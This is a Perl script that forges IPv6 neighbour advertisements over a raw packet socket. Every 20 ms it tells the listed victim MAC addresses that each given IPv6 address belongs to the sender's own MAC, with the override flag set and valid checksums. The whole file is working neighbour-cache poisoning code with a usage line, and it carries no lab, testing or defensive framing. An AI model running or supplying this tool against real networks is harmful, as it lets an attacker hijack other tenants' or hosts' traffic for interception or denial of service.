#!/usr/bin/perl
# forged-advertisements.pl - a tenant's machine that answers neighbour solicitations that nobody asked it. Until it is ended
# it sends, every 20 ms, an advertisement of each address to each MAC address, as its own.
#
#   forged-advertisements.pl INDEX OWN_MAC HOP_LIMIT MAC,MAC ADDRESS,ADDRESS
use strict;
use warnings;
use Socket qw(inet_pton AF_INET6);

my ($index, $own, $hop_limit, $macs, $addresses) = @ARGV;
socket(my $socket, 17, 3, 0) or die "packet socket: $!\n";
my $bytes = sub { pack('H12', $_[0] =~ s/://gr) };

sub advertisement {
  my ($to, $address) = @_;
  my $target = inet_pton(AF_INET6, $address);
  my $ends = $target . ($to =~ /^\x33\x33/ ? pack('n x13 C', 0xff02, 1) : pack('n x6 a3 n a3', 0xfe80, $to ^ "\2", 0xfffe, substr($to, 3)));
  # Solicited, and instead of what is known.
  my $says = pack('C x3 C x3 a16 C C a6', 136, 0x60, $target, 2, 1, $bytes->($own));
  my $sum = unpack('%32n*', $ends . pack('N N', length $says, 58) . $says);
  substr($says, 2, 2) = pack('n', ~(($sum & 0xffff) + ($sum >> 16)) & 0xffff);
  return pack('a6 a6 n N n C C', $to, $bytes->($own), 0x86dd, 6 << 28, length $says, 58, $hop_limit) . $ends . $says;
}

my @frames = map { my $to = $bytes->($_); map { advertisement($to, $_) } split /,/, $addresses } split /,/, $macs;
while (1) {
  send($socket, $_, 0, pack('S n l S C C a8', 17, 0x86dd, $index, 1, 0, 6, substr($_, 0, 6))) or die "send: $!\n" for @frames;
  select(undef, undef, undef, 0.02);
}
